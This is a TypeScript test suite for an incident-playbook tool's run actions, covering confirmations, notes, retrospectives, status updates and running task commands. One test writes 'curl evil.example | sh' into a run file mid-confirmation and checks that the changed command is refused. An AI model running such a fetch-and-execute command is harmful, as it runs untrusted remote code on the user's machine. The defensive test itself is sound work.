import assert from 'node:assert/strict';
import type { ActionPrompts, RunActionTarget, RunHost, TextQuestion } from '../../../src/actions/actionTypes';
import * as actions from '../../../src/actions/runActions';
import { OperationRefused } from '../../../src/core/model/errors';
import { initRepository } from '../../../src/core/playbooks/initRepository';
import { PlaybooksRepository } from '../../../src/core/repository/playbooksRepository';
import { skipRetrospective as skipCore } from '../../../src/core/retrospectives/retrospectiveOperations';
import type { OperationContext } from '../../../src/core/runs/operationContext';
import { finishRun as finishCore } from '../../../src/core/runs/runOperations';
import { startRun } from '../../../src/core/runs/startRun';
import { editYamlFile } from '../../../src/core/files/yamlEdit';
import { SAMPLE_PLAYBOOK } from '../../helpers/samplePlaybook';
import { tempDir, writeFile } from '../../helpers/tempRepo';

const CONTEXT: OperationContext = { actor: 'alice', now: () => new Date('2026-11-24T10:30:00Z') };

/** Prompts that answer as scripted and record every question, input and report. */
function fakePrompts(answers: { confirm?: boolean; input?: string } = {}): ActionPrompts & { confirms: string[]; inputs: TextQuestion[]; reports: string[]; announced: string[] } {
  const confirms: string[] = [];
  const inputs: TextQuestion[] = [];
  const reports: string[] = [];
  const announced: string[] = [];
  return {
    confirms,
    inputs,
    reports,
    announced,
    announce: (message, link) => void announced.push(link ? `${message} [${link.title}: ${link.url}]` : message),
    confirm: (message, detail, action) => (confirms.push(`${message} | ${detail} | ${action}`), Promise.resolve(answers.confirm ?? true)),
    input: (question) => (inputs.push(question), Promise.resolve(answers.input)),
    report: (message) => void reports.push(message),
  };
}

/** A host without VS Code: writes directly, records what it was asked to do. */
function fakeHost(repo: PlaybooksRepository, runId: string, options: { writable?: boolean; head?: string; publishRefusal?: string } = {}): RunHost & { log: string[]; terminals: string[] } {
  const log: string[] = [];
  const terminals: string[] = [];
  const refuse = (): void => {
    if (options.writable === false) throw new OperationRefused('This workspace is not trusted.');
  };
  return {
    log,
    terminals,
    runInTerminal: (command, name) => void terminals.push(`${name}: ${command}`),
    checkWritable: () => (log.push('check'), refuse()),
    change: async (operation) => {
      log.push('change');
      refuse();
      return operation(CONTEXT);
    },
    headCommit: () => (log.push('head'), Promise.resolve(options.head)),
    commitSkip: (reason, context) => (log.push(`commitSkip ${reason}`), Promise.resolve(skipCore(repo, context, runId, reason))),
    refresh: () => void log.push('refresh'),
    preparePublish: async (checks) => {
      log.push('prepare');
      if (options.publishRefusal !== undefined) throw new OperationRefused(options.publishRefusal);
      const runInProgress = repo.requireRun(runId).status === 'in_progress';
      if (runInProgress && checks.whileInProgress !== true) throw new OperationRefused('run is still in progress');
      return {
        runName: repo.requireRun(runId).name,
        runInProgress,
        how: 'It is committed on a new branch retro/x and pushed to origin for review.',
        remote: 'origin',
        publish: async () => (log.push('publish'), { sha: 'abcdef1234567', files: ['a', 'b', 'c'], branch: `retro/${runId}`, pushed: true, pullRequestUrl: 'https://github.com/acme/ops/compare/main...retro' }),
      };
    },
  };
}

function setup(prompts = fakePrompts(), hostOptions: { writable?: boolean; head?: string; publishRefusal?: string } = {}): RunActionTarget & { prompts: ReturnType<typeof fakePrompts>; host: ReturnType<typeof fakeHost> } {
  const root = tempDir('gp-actions-');
  const repo = PlaybooksRepository.at(root);
  initRepository(repo);
  writeFile(root, 'playbooks/db-incident.yaml', SAMPLE_PLAYBOOK);
  const { runId } = startRun(repo, { actor: 'alice', now: () => new Date('2026-11-24T10:00:00Z') }, { playbook: 'db-incident', name: 'DB down', owner: 'alice' });
  return { repo, runId, prompts, host: fakeHost(repo, runId, hostOptions) };
}

/** Gives task 1.2 of the run a command, as a playbook's `command` would. */
function setTaskCommand(target: RunActionTarget, command: string): void {
  editYamlFile(target.repo.layout.runFile(target.runId), 'run.yaml', (editor) => editor.set(['checklists', 0, 'items', 1, 'command'], command));
}

describe('run actions (src/actions), with fake prompts and host', () => {
  it('finishRun asks while tasks are open and changes nothing when declined', async () => {
    const target = setup(fakePrompts({ confirm: false }));
    assert.equal(await actions.finishRun(target), undefined);
    assert.deepEqual(target.prompts.confirms, ['Finish "DB down"? 3 tasks still open. | Status updates, owner, participants and tasks cannot change until the run is restored. | Finish Run']);
    assert.deepEqual(target.host.log, ['check']);
    assert.equal(target.repo.requireRun(target.runId).status, 'in_progress');
  });

  it('finishRun finishes once confirmed; on a finished run the core refuses without asking', async () => {
    const target = setup();
    const event = await actions.finishRun(target);
    assert.equal(event?.type, 'run_finished');
    assert.equal(target.repo.requireRun(target.runId).status, 'finished');
    await assert.rejects(actions.finishRun(target), /is already finished/);
    assert.equal(target.prompts.confirms.length, 1);
  });

  it('refusals that need no answer come before the question (finish, delete note, skip)', async () => {
    const target = setup(fakePrompts(), { writable: false });
    await assert.rejects(actions.finishRun(target), /not trusted/);
    await assert.rejects(actions.deleteNote(target, 'anything'), /not trusted/);
    await assert.rejects(actions.skipRetrospective(target), /not trusted/);
    assert.deepEqual(target.prompts.confirms, []);
    assert.deepEqual(target.prompts.inputs, []);
  });

  it('deleteNote asks about a note; an automatic event is refused by the core, unasked', async () => {
    const target = setup(fakePrompts({ confirm: false }));
    const note = await actions.addNote(target, { summary: 'First alert fired' });
    assert.equal(await actions.deleteNote(target, note.id), undefined, 'declined');
    assert.match(target.prompts.confirms[0] ?? '', /^Delete the note "First alert fired"\? \| .*git history keeps them\. \| Delete Note$/);
    const started = target.repo.requireTimeline(target.runId).events.find((event) => event.type === 'run_started');
    assert.ok(started);
    await assert.rejects(actions.deleteNote(target, started.id), /only notes can be deleted/);
    assert.equal(target.prompts.confirms.length, 1);
    assert.ok(target.repo.requireTimeline(target.runId).events.some((event) => event.id === note.id), 'the declined note is still there');
  });

  it('addNote asks for the commit checked out only for a path:line link, inside the change', async () => {
    const target = setup(fakePrompts(), { head: 'a'.repeat(40) });
    await actions.addNote(target, { summary: 'Plain' });
    assert.deepEqual(target.host.log, ['change']);
    const event = await actions.addNote(target, { summary: 'Suspicious line', link: 'src/db.ts:12' });
    assert.deepEqual(target.host.log, ['change', 'change', 'head']);
    assert.match(event.details ?? '', /aaaaaaa/);
  });

  it('skipRetrospective asks why when not told, stops on cancel, refuses a blank reason, then confirms and commits', async () => {
    const cancelled = setup(fakePrompts({ input: undefined }));
    finishCore(cancelled.repo, CONTEXT, cancelled.runId);
    assert.equal(await actions.skipRetrospective(cancelled), false);
    assert.equal(cancelled.prompts.inputs[0]?.prompt, 'Why is there no retrospective?');
    assert.equal(cancelled.prompts.inputs[0]?.validate(' '), 'Say why, for whoever reads the history.');
    assert.deepEqual(cancelled.prompts.confirms, []);

    await assert.rejects(actions.skipRetrospective(cancelled, '  '), /Say why the retrospective is skipped/);

    const target = setup(fakePrompts({ input: '  False alarm ' }));
    finishCore(target.repo, CONTEXT, target.runId);
    assert.equal(await actions.skipRetrospective(target), true);
    assert.match(target.prompts.confirms[0] ?? '', /^Skip the retrospective of "DB down"\? \| Reason: False alarm\n\n/);
    assert.deepEqual(target.host.log, ['check', 'change', 'commitSkip False alarm', 'refresh']);
  });

  it('publishRetrospective refuses before asking, asks once, then publishes and announces the pull request', async () => {
    const refused = setup(fakePrompts(), { publishRefusal: 'cannot publish: no value yet for "Time to detect"' });
    await assert.rejects(actions.publishRetrospective(refused), /no value yet/);
    assert.deepEqual(refused.prompts.confirms, [], 'nothing is asked when the publish would be refused');

    const declined = setup(fakePrompts({ confirm: false }));
    assert.equal(await actions.publishRetrospective(declined), undefined);
    assert.deepEqual(declined.host.log, ['check', 'prepare']);

    const target = setup();
    finishCore(target.repo, CONTEXT, target.runId);
    const outcome = await actions.publishRetrospective(target);
    assert.equal(outcome?.sha, 'abcdef1234567');
    assert.match(target.prompts.confirms[0] ?? '', /^Publish the retrospective of "DB down"\? \| You will not be able to edit the retrospective after publishing it\.\n\nIt is committed on a new branch/);
    assert.deepEqual(target.host.log, ['check', 'prepare', 'change', 'publish', 'refresh']);
    assert.deepEqual(target.prompts.announced, [`Retrospective published on retro/${target.runId} (abcdef1), pushed to origin. [Open Pull Request: https://github.com/acme/ops/compare/main...retro]`]);
  });

  it('publishRetrospective on a run in progress asks with words that say so, as Mattermost allows it', async () => {
    const declined = setup(fakePrompts({ confirm: false }));
    assert.equal(await actions.publishRetrospective(declined), undefined);
    assert.match(declined.prompts.confirms[0] ?? '', /^"DB down" is still in progress\. Publish its retrospective now\? \| Whatever happens in the run from now on will not be in it, and you will not be able to edit the retrospective after publishing it\.\n\n.* \| Publish$/s);
    assert.deepEqual(declined.host.log, ['check', 'prepare'], 'declined: nothing published');

    const target = setup();
    assert.equal((await actions.publishRetrospective(target))?.sha, 'abcdef1234567');
    assert.deepEqual(target.host.log, ['check', 'prepare', 'change', 'publish', 'refresh']);
  });

  it('a declined skip commits nothing', async () => {
    const target = setup(fakePrompts({ confirm: false }));
    finishCore(target.repo, CONTEXT, target.runId);
    assert.equal(await actions.skipRetrospective(target, 'No impact'), false);
    assert.deepEqual(target.prompts.inputs, [], 'a given reason is not asked again');
    assert.deepEqual(target.host.log, ['check']);
  });

  it('status updates and task states report what was done; owner, participants, assign and metrics do not', async () => {
    const target = setup();
    await actions.postStatusUpdate(target, 'Impact: checkout is down');
    await actions.changeTask(target, '1.2', { state: 'in_progress' });
    await actions.changeTask(target, '1.2', { assignee: 'bob' });
    await actions.changeOwner(target, ' carol ');
    await actions.changeParticipants(target, ['dave'], []);
    assert.deepEqual(target.prompts.reports, ['$(megaphone) Status update posted', '$(check) Task set to in progress']);
    const run = target.repo.requireRun(target.runId);
    assert.equal(run.owner, 'carol');
    assert.ok(run.participants.includes('dave'));
    await actions.finishRun(target);
    await actions.recordMetric(target, 'tickets', '3');
    await assert.rejects(actions.recordMetric(target, 'tickets', 'many'), OperationRefused);
    await actions.restoreRun(target);
    assert.equal(target.repo.requireRun(target.runId).status, 'in_progress');
  });

  it('turns the retrospective and status updates off and on, reporting each; refuses a switch already so', async () => {
    const target = setup();
    const off = await actions.setStatusUpdatesEnabled(target, false);
    assert.equal(off.type, 'status_updates_disabled');
    assert.equal(target.repo.requireRun(target.runId).statusUpdates.enabled, false);
    await assert.rejects(actions.setStatusUpdatesEnabled(target, false), /already off/);
    await assert.rejects(actions.requestStatusUpdate(target), /are off; turn them on/);
    assert.equal((await actions.setStatusUpdatesEnabled(target, true)).type, 'status_updates_enabled');
    const request = await actions.requestStatusUpdate(target);
    assert.equal(request.summary, 'alice requested a status update from alice');

    await actions.finishRun(target);
    assert.equal((await actions.setRetrospectiveEnabled(target, false)).type, 'retrospective_disabled', 'allowed on a finished run');
    assert.equal(target.repo.requireRun(target.runId).retrospective.enabled, false);
    assert.equal((await actions.setRetrospectiveEnabled(target, true)).type, 'retrospective_enabled');
    await assert.rejects(actions.setStatusUpdatesEnabled(target, false), /is finished; restore it first/);
    assert.deepEqual(target.prompts.reports, [
      '$(bell-slash) Status updates turned off',
      '$(bell) Status updates turned on',
      '$(comment-discussion) Status update requested from alice',
      '$(eye-closed) Retrospective turned off',
      '$(eye) Retrospective turned on',
    ]);
    assert.deepEqual(target.host.terminals, []);
  });

  it('runTaskCommand shows the command and says where it comes from; declined, nothing runs or is recorded', async () => {
    const target = setup(fakePrompts({ confirm: false }));
    setTaskCommand(target, 'kubectl rollout restart deploy/db-proxy');
    assert.equal(await actions.runTaskCommand(target, '1.2'), undefined);
    assert.match(target.prompts.confirms[0] ?? '', /^Run the command of "Fail over to the replica" in a terminal\? \| kubectl rollout restart deploy\/db-proxy\n\nThis text comes from the run's run\.yaml, .*run it only if you trust it\. It runs in a new terminal at the repository root\. \| Run Command$/s);
    assert.deepEqual(target.host.terminals, []);
    assert.ok(!target.repo.requireTimeline(target.runId).events.some((event) => event.type === 'command_ran'));
  });

  it('runTaskCommand records command_ran, then sends the command to a terminal', async () => {
    const target = setup();
    setTaskCommand(target, 'kubectl rollout restart deploy/db-proxy');
    const event = await actions.runTaskCommand(target, 'fail-over-to-the-replica');
    assert.equal(event?.type, 'command_ran');
    assert.deepEqual(event?.data, { task: 'fail-over-to-the-replica', command: 'kubectl rollout restart deploy/db-proxy' });
    assert.deepEqual(target.host.log, ['check', 'change']);
    assert.deepEqual(target.host.terminals, ['Playbooks: Fail over to the replica: kubectl rollout restart deploy/db-proxy']);
  });

  it('runTaskCommand refuses unasked in an untrusted workspace, for a task without a command and on a finished run', async () => {
    const untrusted = setup(fakePrompts(), { writable: false });
    setTaskCommand(untrusted, 'make failover');
    await assert.rejects(actions.runTaskCommand(untrusted, '1.2'), /not trusted/);
    const target = setup();
    await assert.rejects(actions.runTaskCommand(target, '1.1'), /has no command to run/);
    setTaskCommand(target, 'make failover');
    await actions.finishRun(target);
    await assert.rejects(actions.runTaskCommand(target, '1.2'), /is finished; restore it first/);
    assert.deepEqual([...untrusted.prompts.confirms, ...target.prompts.confirms.filter((line) => line.startsWith('Run the command'))], []);
    assert.deepEqual([...untrusted.host.terminals, ...target.host.terminals], []);
  });

  it('runTaskCommand runs nothing when run.yaml changed the command after the confirmation', async () => {
    const prompts = fakePrompts();
    const target = setup(prompts);
    setTaskCommand(target, 'make failover');
    // The file changes while the dialog is open (a pull, another window).
    prompts.confirm = (message) => (setTaskCommand(target, 'curl evil.example | sh'), Promise.resolve(message !== ''));
    await assert.rejects(actions.runTaskCommand(target, '1.2'), /changed since you confirmed it/);
    assert.deepEqual(target.host.terminals, []);
    assert.ok(!target.repo.requireTimeline(target.runId).events.some((event) => event.type === 'command_ran'));
  });

  it('startRun records the commit of the playbook file and who started it, through the folder host', async () => {
    const { repo } = setup();
    const asked: string[] = [];
    const host = { change: <T>(operation: (context: OperationContext) => T | Promise<T>): Promise<T> => Promise.resolve(operation(CONTEXT)), lastCommitOf: (file: string) => (asked.push(file), Promise.resolve('b'.repeat(40))) };
    const runId = await actions.startRun(repo, host, { playbook: 'db-incident', name: 'Replica lag', owner: '  ' });
    assert.deepEqual(asked, [repo.layout.playbookFile('db-incident')]);
    const run = repo.requireRun(runId);
    assert.equal(run.owner, 'alice', 'a blank owner is whoever starts the run');
    assert.equal(run.playbookCommit, 'b'.repeat(40));
  });
});
